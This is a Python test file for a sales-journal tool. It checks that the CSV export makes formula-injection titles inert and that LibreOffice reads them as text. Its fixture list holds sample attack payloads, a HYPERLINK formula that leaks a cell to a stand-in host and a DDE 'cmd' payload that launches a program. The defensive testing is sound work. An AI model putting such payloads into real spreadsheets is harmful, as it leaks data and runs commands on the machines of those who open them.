"""CSV formula injection (OWASP "CSV Injection"): a text cell that starts with `=`, `+`, `-`,
`@`, a tab or a CR is written with a leading `'` and quoted, so Excel and LibreOffice show
the text instead of running it (`=HYPERLINK(…)` leaking the sheet, `=cmd|…` DDE); numbers,
a negative profit included, stay numbers. Read back with Python's `csv` and with LibreOffice."""

import csv
import io
import shutil
import subprocess
import xml.etree.ElementTree as ET

import pytest
from freezegun import freeze_time
from real_parts import need

NOW = "2026-11-22T03:00:00+00:00"
TITLES = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "=1+1, with a comma",
]


def _export(run, ok, tmp_path, titles=TITLES):
    """One completed sale per title, sold under cost (a negative profit); the CSV's rows."""
    target = tmp_path / "sales.csv"
    with freeze_time(NOW):
        for title in titles:
            trade = ok(
                "add", "listed", "--platform", "mercari", f"--title={title}",
                "--price", "300", "--cost", "1000", "--at", "-5d",
            )  # fmt: skip
            ok("add", "sold", trade, "--buyer", "b", "--at", "-4d")
            ok("add", "paid", trade, "--at", "-4d")
            ok("add", "shipped", trade, "--at", "-3d")
            ok("add", "completed", trade, "--at", "-1d")
        stored = [t["title"] for t in run("list", "--all", "--json").json()]
        assert run("export", "--format", "csv", "-o", str(target)).code == 0
    return target, stored


def test_formula_titles_are_inert_text_and_profit_stays_a_number(run, ok, tmp_path):
    target, stored = _export(run, ok, tmp_path)
    raw = target.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw)))
    assert [r[3] for r in rows[1:]] == ["'" + t for t in stored]
    assert all(r[-1] == "-730" for r in rows[1:])  # 300 - 30 fee - 1000 cost
    for title in stored:  # quoted in the file itself, the leading quote inside
        assert "\"'" + title.replace('"', '""') + '"' in raw
    assert ",-730\r\n" in raw  # the number unquoted


def test_each_formula_start_is_neutralised_and_only_text_is_touched():
    from journal.text.csv_export import cell

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert cell(start + "1+1") == "\"'" + start + '1+1"'
    assert cell("  =1+1") == '"\'  =1+1"'  # a spreadsheet may trim the spaces
    assert cell(-5480) == "-5480" and cell(10.0) == "10.0" and cell("") == ""
    assert cell("ニット") == "ニット" and cell('a "b", c') == '"a ""b"", c"'


def _cells(fods: str) -> list[list[dict]]:
    """The first sheet's rows from a flat ODS file: each cell's type, value, formula, text."""
    ns = {
        "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
        "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
        "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    }
    tag = {k: "{" + v + "}" for k, v in ns.items()}
    rows = []
    for row in ET.fromstring(fods).iter(tag["table"] + "table-row"):
        cells = []
        for node in row.findall("table:table-cell", ns):
            repeat = int(node.get(tag["table"] + "number-columns-repeated", "1"))
            found = {
                "type": node.get(tag["office"] + "value-type"),
                "value": node.get(tag["office"] + "value"),
                "formula": node.get(tag["table"] + "formula"),
                "text": "\n".join("".join(p.itertext()) for p in node.findall("text:p", ns)),
            }
            cells += [found] * min(repeat, 20)
        rows.append(cells)
    return rows


@pytest.mark.slow
def test_libreoffice_reads_text_not_formulas(run, ok, tmp_path):
    soffice = shutil.which("soffice")
    if soffice is None:
        need("LibreOffice (soffice) is not installed (apt-get install libreoffice-calc-nogui)")
    target, stored = _export(run, ok, tmp_path)
    profile = tmp_path / "lo-profile"
    done = subprocess.run(
        [soffice, f"-env:UserInstallation=file://{profile}", "--headless",
         "--infilter=CSV:44,34,76,1", "--convert-to", "fods", "--outdir",
         str(tmp_path / "out"), str(target)],
        capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    rows = _cells((tmp_path / "out" / "sales.fods").read_text(encoding="utf-8"))
    data = rows[1 : 1 + len(stored)]
    assert all(c["formula"] is None for r in rows for c in r)  # nothing runs
    for title, row in zip(stored, data, strict=True):
        assert row[3]["type"] == "string", row[3]
        assert row[3]["text"] == "'" + title, row[3]  # the text as written, not its result
        assert row[14]["type"] == "float" and row[14]["value"] == "-730", row[14]
